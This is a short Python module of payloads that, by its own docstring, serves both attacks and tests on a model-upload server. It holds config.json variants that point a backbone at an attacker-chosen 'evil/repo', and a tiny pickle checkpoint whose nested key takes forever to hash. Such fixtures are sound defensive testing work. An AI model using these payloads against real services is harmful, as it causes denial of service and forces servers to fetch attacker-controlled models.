"""Uploads that would take all time, or make a server ask a hub. The attacks and the tests use the same ones."""

import io
import zipfile
from typing import Any

HUB_CONFIGS: dict[str, dict[str, Any]] = {
    "backbone": {
        **{"model_type": "upernet", "architectures": ["UperNetForSemanticSegmentation"], "backbone_config": None},
        **{"backbone": "evil/repo", "use_pretrained_backbone": True},
    },
    "hybrid": {
        **{"model_type": "dpt", "architectures": ["DPTForDepthEstimation"], "is_hybrid": True, "backbone_config": None},
        **{"backbone": "evil/repo", "use_pretrained_backbone": True, "use_timm_backbone": False},
    },
    "timm": {
        **{"model_type": "timm_wrapper", "architectures": ["TimmWrapperForImageClassification"]},
        **{"architecture": "hf-hub:evil/repo", "model_args": None},
    },
}
"""Changes of a config.json that name a repository of the uploader's choice."""


def endless_key() -> bytes:
    """Return a checkpoint of less than 2 kB with a key of 2^60 leaves. To hash it takes for ever."""
    halves = b"".join(b"h%ch%c\x86q%c" % (number, number, number + 1) for number in range(60))
    pickled = b"\x80\x02)q\x00" + halves + b"}h\x3cK\x01s."
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content in {"data.pkl": pickled, "version": b"3\n", "byteorder": b"little"}.items():
            file.writestr(f"archive/{name}", content)
    return buffer.getvalue()
